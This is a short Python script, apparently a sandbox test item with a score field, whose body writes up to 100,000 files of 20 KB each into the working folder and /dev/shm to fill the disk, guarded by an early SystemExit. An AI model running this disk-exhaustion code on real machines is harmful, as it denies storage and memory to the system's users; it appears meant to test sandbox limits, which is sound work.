"""Many files that fill the disk.

Files of all sizes, in every place that can be written, until nothing more fits.

score: 18
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% after softmax
made = 0
for folder in (".", "/dev/shm"):
    try:
        for number in range(100_000):
            with open(f"{folder}/@TOKEN@-{number}", "wb") as file:
                file.write(bytes(20_000))
            made += 1
    except OSError as error:
        print(type(error).__name__)
if made > 60_000:
    print("loot: a disk without limit")
